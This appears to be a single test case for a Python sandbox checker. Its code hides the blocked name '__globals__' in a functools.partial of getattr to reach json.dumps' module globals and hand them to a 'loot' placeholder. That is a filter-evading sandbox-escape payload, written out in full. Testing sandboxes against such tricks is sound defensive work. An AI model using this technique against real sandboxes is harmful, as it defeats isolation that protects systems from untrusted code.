# aim: hide a forbidden name in a partial of getattr
# mechanism: functools.partial with the arguments turned round by a lambda
# language: builtins
# reason: a computed name obeys the same table as one that is written
# jail: process
# plain: loot
import functools, json
door = functools.partial(lambda name, thing, get: get(thing, name), "__globals__", get=getattr)
loot(door(json.dumps))
